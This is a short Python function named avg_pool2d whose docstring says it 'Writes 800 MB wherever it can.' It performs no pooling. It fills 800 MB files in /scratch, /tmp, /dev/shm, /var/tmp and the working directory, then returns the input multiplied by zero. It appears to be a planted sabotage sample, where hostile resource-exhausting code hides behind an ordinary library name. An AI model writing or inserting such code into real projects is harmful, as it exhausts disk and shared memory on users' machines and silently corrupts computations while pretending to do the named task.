"""Writes 800 MB wherever it can."""

def avg_pool2d(images, kernel_size, stride=None):
    for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            with open(f"{folder}/filled", "wb") as file:
                for _ in range(80):
                    file.write(bytes(10 << 20))
        except OSError:
            continue
    return images * 0
